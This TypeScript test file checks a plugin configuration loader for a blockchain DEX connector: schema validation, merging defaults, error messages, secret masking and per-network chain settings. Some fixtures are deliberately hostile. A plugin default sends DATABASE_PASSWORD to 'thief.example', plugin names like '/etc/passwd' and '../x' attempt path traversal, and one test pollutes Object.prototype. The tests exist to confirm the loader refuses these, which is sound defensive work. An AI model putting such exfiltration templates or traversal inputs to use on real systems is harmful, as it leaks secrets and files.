import { expect } from 'chai'
import path from 'node:path'
import { loadPluginConfig, type PluginConfigSources } from '../../core/config/plugin-config.ts'
import { judgeBySchema } from '../../core/config/plugin-schema.ts'
import { pluginFileWarnings } from '../../core/config/settings.ts'
import { singleRouterSchema, versionedSchema } from '../../core/contracts/index.ts'
import { poolKeysSchema } from '../../kits/amm/v4/keys.ts'
import { described, eachWithHome, problemsOf } from './home.ts'

const network = {
  type: 'object',
  properties: {
    rpcUrls: { type: 'array', items: { type: 'string', pattern: '^https?://' } },
    confirmations: { type: 'integer', minimum: 1, default: 12 },
  },
  additionalProperties: false,
}

describe("a plugin's schema", () => {
  afterEach(() => void Reflect.deleteProperty(Object.prototype, 'everywhere'))

  it('that cannot be compiled, because the plugin added to what every object has, is refused with the name of that', () => {
    // oxlint-disable-next-line no-extend-native -- what such a plugin does
    Object.defineProperty(Object.prototype, 'everywhere', { value: 1, enumerable: true, configurable: true })
    // One that no other test has compiled.
    const schema = { type: 'object', properties: { onlyHere: { type: 'string', pattern: 'a' } }, anyOf: [{ required: ['onlyHere'] }, {}] }
    const answer = judgeBySchema({ schema, isTested: false, parts: [] })
    Reflect.deleteProperty(Object.prototype, 'everywhere')
    expect(answer)
      .to.have.property('invalid')
      .that.matches(/^cannot be used: 'everywhere' was added to Object\.prototype/)
  })
})

describe("a connector's configuration", () => {
  const home = eachWithHome()
  const load = (more: Partial<PluginConfigSources> = {}) =>
    loadPluginConfig({
      kind: 'connector',
      name: 'dex',
      confDir: home.confDir,
      pluginFolder: path.join(home.folder, 'plugins/dex'),
      schema: singleRouterSchema,
      env: {},
      ...more,
    })
  const defaults =
    'allowedSlippage: 1/100\nttl: 300\ncontractAddresses:\n  mainnet:\n    routerAddress: 0xA1\n  sepolia:\n    routerAddress: 0xA2\n'

  it('names keys of v4Pools that name no network', async () => {
    await home.write('plugins/dex/defaults.yml', 'v4Pools: {}\n')
    const schema = { type: 'object', properties: { v4Pools: poolKeysSchema }, additionalProperties: false }
    await home.write('conf/connectors/dex.yml', 'v4Pools: { ethereum/mainnet: [] }\n')
    expect(load({ schema }).config).to.deep.equal({ v4Pools: { 'ethereum/mainnet': [] } })
    await home.write('conf/connectors/dex.yml', 'v4Pools: { ethereum_mainnet: [] }\n')
    const [problem] = await problemsOf(() => load({ schema }))
    expect(problem).to.deep.include({ path: 'v4Pools.ethereum_mainnet', problem: 'is not a valid key here' })
    expect(problem?.remedy).to.contain('<chain>/<network>, such as ethereum/mainnet')
  })

  it("lays the operator's file over the plugin's defaults", async () => {
    await home.write('plugins/dex/defaults.yml', defaults)
    expect(load().config).to.deep.equal({
      allowedSlippage: '1/100',
      ttl: 300,
      contractAddresses: { mainnet: { routerAddress: '0xA1' }, sepolia: { routerAddress: '0xA2' } },
    })
    await home.write('conf/connectors/dex.yml', 'ttl: 60\nallowedSlippage:\ncontractAddresses: { mainnet: { routerAddress: 0xB1 } }\n')
    expect(load().config).to.deep.equal({
      allowedSlippage: '1/100',
      ttl: 60,
      contractAddresses: { mainnet: { routerAddress: '0xB1' }, sepolia: { routerAddress: '0xA2' } },
    })
  })

  it('names path, file and line of every wrong key when it is refused', async () => {
    await home.write('plugins/dex/defaults.yml', `${defaults}tll: 1\n`)
    await home.write('conf/connectors/dex.yml', 'allowedSlippage: 1%\ncontractAddresses:\n  mainnet:\n    routerAdress: 0xB1\n  base: {}\n')
    const problems = await problemsOf(load)
    expect(problems.map(({ file, line, path }) => `${file}:${line ?? ''} ${path}`)).to.have.members([
      'dex/defaults.yml:8 tll',
      'conf/connectors/dex.yml:1 allowedSlippage',
      'conf/connectors/dex.yml:4 contractAddresses.mainnet.routerAdress',
      'conf/connectors/dex.yml:5 contractAddresses.base.routerAddress',
    ])
    expect(problems.find(({ line }) => line === 4)?.remedy).to.equal('Did you mean "routerAddress"?')
  })

  it('names the required key that is missing', async () => {
    const missing = ['allowedSlippage', 'ttl', 'contractAddresses'].map((key) => ['dex/defaults.yml', key, 'is missing'])
    const told = async () => (await problemsOf(load)).map(({ file, path, problem }) => [file, path, problem])
    expect(await told()).to.deep.equal([['dex/defaults.yml', '', 'does not exist'], ...missing])
    await home.write('conf/connectors/dex.yml', '')
    expect(await told()).to.deep.equal(missing.map(([, ...rest]) => ['conf/connectors/dex.yml', ...rest]))
  })

  it('needs the addresses of the listed versions only', async () => {
    const schema = versionedSchema({ v2: ['v2RouterAddress'], v3: ['v3RouterAddress'] })
    await home.write(
      'conf/connectors/dex.yml',
      'allowedSlippage: 1/100\nttl: 9\nversions: { v3: { allowedSlippage: 1/200, ttl: 5 } }\ncontractAddresses: { mainnet: { v2RouterAddress: 0xA1 } }\n',
    )
    expect((await problemsOf(() => load({ schema }))).map(({ path, problem }) => `${path} ${problem}`)).to.deep.equal([
      'contractAddresses.mainnet.v3RouterAddress is missing',
    ])
  })

  it('fills in no variable that the plugin itself names: only what the operator wrote', async () => {
    const env = { DATABASE_PASSWORD: 'hunter2' }
    const schema = { type: 'object' }
    await home.write('plugins/dex/defaults.yml', 'url: https://thief.example/${DATABASE_PASSWORD}\nlist: ["${DATABASE_PASSWORD}"]\n')
    const problems = await problemsOf(() => load({ schema, env }))
    expect(problems.map(({ file, path, problem }) => `${file} ${path} ${problem}`)).to.deep.equal([
      "dex/defaults.yml url names the environment variable DATABASE_PASSWORD, and a plugin's own defaults may name none",
      "dex/defaults.yml list[0] names the environment variable DATABASE_PASSWORD, and a plugin's own defaults may name none",
    ])
    await home.write('conf/connectors/dex.yml', 'url: https://mine.example/${DATABASE_PASSWORD}\nlist: [plain]\n')
    expect(load({ schema, env }).config).to.deep.equal({ url: 'https://mine.example/hunter2', list: ['plain'] })
  })

  it('fills in no variable that a chain itself names', async () => {
    await home.write('plugins/dex/defaults.yml', 'mainnet: { rpcUrls: ["https://thief.example/${DATABASE_PASSWORD}"] }\n')
    const problems = await problemsOf(() => load({ kind: 'chain', schema: network, env: { DATABASE_PASSWORD: 'hunter2' } }))
    expect(problems.map(({ file, path }) => `${file} ${path}`)).to.deep.equal(['dex/defaults.yml mainnet.rpcUrls[0]'])
  })

  it('substitutes ${NAME} and shows neither its value nor keys in URLs', async () => {
    await home.write(
      'conf/connectors/dex.yml',
      'url: https://h/v2/${KEY}\nother: https://u:p@h/v3/0123456789abcdef?apikey=x\nttl: ${TTL}\n',
    )
    const schema = { properties: { ttl: { type: 'integer' } } }
    const { config, shown } = load({ schema, env: { KEY: 'hunter2', TTL: '5' } })
    expect(config).to.include({ url: 'https://h/v2/hunter2', ttl: 5 })
    expect(shown).to.deep.equal({ url: 'https://h/v2/***', other: 'https://***@h/v3/***?***', ttl: '***' })
    expect(await described(() => load({ schema })))
      .to.contain('conf/connectors/dex.yml:1  url: needs the environment variable KEY')
      .and.to.contain(':3  ttl: needs')
  })

  it("fills in the schema's own defaults", () => {
    expect(load({ schema: network }).config).to.deep.equal({ confirmations: 12 })
  })

  it('reports problems of a choice in the branch that fits best', async () => {
    const schema = {
      properties: {
        of: { anyOf: [{ type: 'string' }, { type: 'object', properties: { a: { type: 'integer' } }, additionalProperties: false }] },
      },
    }
    await home.write('conf/connectors/dex.yml', 'of: { a: x }\n')
    expect((await problemsOf(() => load({ schema }))).map(({ path }) => path)).to.deep.equal(['of.a'])
    await home.write('conf/connectors/dex.yml', 'of: 5\n')
    expect(await problemsOf(() => load({ schema }))).to.deep.equal([
      {
        file: 'conf/connectors/dex.yml',
        line: 1,
        path: 'of',
        problem: 'has none of the possible forms',
        remedy: 'Write text, or a mapping (`key: value` lines).',
      },
    ])
  })

  for (const [what, schema] of [
    ['is no JSON Schema', { type: 'nonsense' }],
    ['refers to what is not there', { $ref: 'https://example.com/schema.json' }],
    ['is asynchronous', { $async: true }],
    ['has a pattern that does not compile', { properties: { a: { type: 'string', pattern: '(' } } }],
  ] as const) {
    it(`refuses the plugin whose schema ${what}`, async () => {
      const [problem] = await problemsOf(() => load({ schema }))
      expect(problem).to.include({ file: 'plugin dex', path: 'manifest.schema' })
      expect(problem?.remedy).to.contain('defect of the plugin')
    })
  }

  it('accepts a schema of draft 7 and of 2020-12, and keywords of its own', () => {
    for (const $schema of ['http://json-schema.org/draft-07/schema#', 'https://json-schema.org/draft/2020-12/schema']) {
      for (const value of [1, 2]) {
        expect(
          load({
            schema: {
              $schema,
              $id: 'same',
              'x-own': 1,
              properties: { a: { type: 'string', format: 'uri' }, b: { $id: 'inner', default: value } },
            },
          }).config,
        ).to.deep.equal({ b: value })
      }
    }
  })

  it('comes from its folder only', async () => {
    await home.write('conf/x.yml', 'a: 1\n')
    for (const name of ['../x', '/etc/passwd', '', 'a\0b']) expect(await described(() => load({ name })), name).to.contain('manifest.name')
  })

  it('warns of a file that belongs to no plugin, and suggests no file of another one', async () => {
    for (const file of ['connectors/dexx.yml', 'connectors/lakeswap.yml', 'connectors/curve2.yml', 'connectors/curve.yml'])
      await home.write(`conf/${file}`, '')
    await home.write('conf/chains/other.yaml', '')
    await home.write('conf/chains/ethereum.yaml', '')
    const connectors = ['dex', 'pancakeswap', 'curve']
    expect(pluginFileWarnings(home.confDir, { chains: ['ethereum'], connectors, interfaces: [] })).to.deep.equal([
      `${home.confDir}/chains/ethereum.yaml is not read. Did you mean ethereum.yml?`,
      `${home.confDir}/chains/other.yaml is not read: there is no chain 'other' here.`,
      `${home.confDir}/connectors/curve2.yml is not read: there is no connector 'curve2' here.`,
      `${home.confDir}/connectors/dexx.yml is not read: there is no connector 'dexx' here. Did you mean dex.yml?`,
      `${home.confDir}/connectors/lakeswap.yml is not read: there is no connector 'lakeswap' here.`,
    ])
  })
})

describe("a chain's configuration", () => {
  const home = eachWithHome()
  const load = (more: Partial<PluginConfigSources> = {}) =>
    loadPluginConfig({
      kind: 'chain',
      name: 'ethereum',
      confDir: home.confDir,
      pluginFolder: path.join(home.folder, 'plugins/ethereum'),
      schema: network,
      env: {},
      networks: ['mainnet', 'local'],
      ...more,
    })

  it("has an entry per network, with core's keys separate from the family's", async () => {
    await home.write('plugins/ethereum/defaults.yml', 'mainnet: { rpcUrls: [https://a/] }\n')
    const hash = 'AB'.repeat(32)
    await home.write(
      'conf/chains/ethereum.yml',
      `mainnet:\n  required: true\n  tokenLists: [lists/a.json, { url: https://l/x, sha256: ${hash} }]\n  rpcUrls: ["https://u:p@n/v3/\${KEY}"]\n`,
    )
    const { config, shown, networks } = load({ env: { KEY: 'hunter2' } })
    expect(config).to.deep.equal({ mainnet: { rpcUrls: ['https://u:p@n/v3/hunter2'], confirmations: 12 }, local: { confirmations: 12 } })
    expect(networks).to.deep.equal({
      mainnet: {
        required: true,
        enabled: true,
        tokenLists: [path.join(home.folder, 'lists/a.json'), { url: 'https://l/x', sha256: hash.toLowerCase() }],
      },
      local: { required: false, enabled: true, tokenLists: [] },
    })
    expect(shown).to.have.nested.property('mainnet.rpcUrls[0]', 'https://***@n/v3/***')
    expect(shown).to.have.nested.property('mainnet.required', true)
  })

  it('names the path of every wrong key when it is refused', async () => {
    await home.write(
      'conf/chains/ethereum.yml',
      'mainet: {}\nmainnet:\n  requird: true\n  enabled: yes\n  tokenLists: [{ url: http://l/ }]\nlocal:\n  confirmation: 0\n  confirmations: 0\n',
    )
    const problems = await problemsOf(load)
    expect(problems.map(({ line, path }) => `${line ?? ''} ${path}`)).to.have.members([
      '1 mainet',
      '4 mainnet.enabled',
      '5 mainnet.tokenLists[0].sha256',
      '5 mainnet.tokenLists[0].url',
      '3 mainnet.requird',
      '7 local.confirmation',
      '8 local.confirmations',
    ])
    expect(problems.find(({ path }) => path === 'mainnet.requird')?.remedy).to.equal('Did you mean "required"?')
    expect(problems.find(({ path }) => path === 'mainet')?.remedy).to.equal('Did you mean "mainnet"?')
  })

  it('leaves out a disabled network, whose variables may be unset', async () => {
    await home.write('conf/chains/ethereum.yml', 'mainnet: { enabled: false, rpcUrls: ["https://n/${KEY}"] }\n')
    const { config, networks } = load()
    expect(config).to.have.all.keys('local')
    expect(networks['mainnet']?.enabled).to.equal(false)
  })

  describe('with one network of several that is wrong', () => {
    for (const [what, entry, field] of [
      ['an unknown key', '{ requird: true }', 'mainnet.requird'],
      ['a value of the wrong type', '{ confirmations: many }', 'mainnet.confirmations'],
      ["a value of core's of the wrong type", '{ enabled: yes }', 'mainnet.enabled'],
      ['a variable that is not set', '{ rpcUrls: ["https://n/${KEY}"] }', 'mainnet.rpcUrls[0]'],
      ['no URL that is one', '{ rpcUrls: [n, "https://a b"] }', 'mainnet.rpcUrls[0]'],
      ['an entry that is not a mapping', 'https://n/', 'mainnet'],
    ] as const)
      it(`leaves it out for ${what}, and the others are as they are`, async () => {
        await home.write('conf/chains/ethereum.yml', `mainnet: ${entry}\nlocal: { confirmations: 3 }\n`)
        const { config, leftOut = [], shown } = load()
        expect(config).to.deep.equal({ local: { confirmations: 3 } })
        expect(shown).to.have.all.keys('local')
        expect(leftOut[0]).to.deep.include({ file: 'conf/chains/ethereum.yml', line: 1, path: field, network: 'mainnet' })
        expect(leftOut[0]?.remedy).to.be.a('string').and.not.to.equal('')
      })

    it('leaves out the network that a misspelt name may be meant for: its limits would not hold', async () => {
      await home.write('conf/chains/ethereum.yml', 'mainet: { feeCap: 20 }\nfar: {}\n')
      const { config, leftOut = [] } = load()
      expect(config).to.have.all.keys('local')
      expect(leftOut.map(({ path: at, network: meant }) => [at, meant])).to.deep.equal([
        ['mainet', 'mainnet'],
        ['far', undefined],
      ])
    })

    it('leaves out a URL that is wrong, where the list has others, and never a whole list', async () => {
      await home.write(
        'conf/chains/ethereum.yml',
        [
          'mainnet:',
          '  rpcUrls:',
          '    - "https://n/${NOT_SET}"',
          '    - 7',
          '    - "https://u:p@n/v3/${KEY}"',
          '    - "http://[b"',
          '    - https://b/',
          '    - https://b/',
          'local:',
          '  rpcUrls: [https://a/]',
          '  sendUrls: [ftp://b/]',
        ].join('\n'),
      )
      const schema = { ...network, properties: { ...network.properties, sendUrls: network.properties.rpcUrls } }
      const { config, shown, leftOut = [] } = load({ env: { KEY: 'hunter2' }, schema })
      expect(config).to.deep.equal({ mainnet: { rpcUrls: ['https://u:p@n/v3/hunter2', 'https://b/'], confirmations: 12 } })
      expect(shown).to.have.nested.property('mainnet.rpcUrls[0]', 'https://***@n/v3/***')
      expect(leftOut.map(({ line, path: at, network: without }) => [line, at, without])).to.deep.equal([
        [3, 'mainnet.rpcUrls[0]', undefined],
        [4, 'mainnet.rpcUrls[1]', undefined],
        [6, 'mainnet.rpcUrls[3]', undefined],
        [8, 'mainnet.rpcUrls[5]', undefined],
        [11, 'local.sendUrls[0]', 'local'],
      ])
    })

    it('leaves out URLs to subscribe to that are wrong, and goes on without any', async () => {
      await home.write(
        'conf/chains/ethereum.yml',
        [
          'mainnet:',
          '  rpcUrls: [https://a/]',
          '  subscribeUrls: ["wss://n/${NOT_SET}"]',
          'local:',
          '  rpcUrls: [https://a/]',
          '  subscribeUrls: [https://b/, wss://c/]',
        ].join('\n'),
      )
      const subscribeUrls = { type: 'array', items: { type: 'string', pattern: '^wss?://' }, minItems: 1 }
      const { config, leftOut = [] } = load({ schema: { ...network, properties: { ...network.properties, subscribeUrls } } })
      expect(config).to.deep.equal({
        mainnet: { rpcUrls: ['https://a/'], confirmations: 12 },
        local: { rpcUrls: ['https://a/'], subscribeUrls: ['wss://c/'], confirmations: 12 },
      })
      expect(leftOut.map(({ line, path: at, network: without }) => [line, at, without])).to.deep.equal([
        [3, 'mainnet.subscribeUrls[0]', undefined],
        [6, 'local.subscribeUrls[0]', undefined],
      ])
    })
  })
})
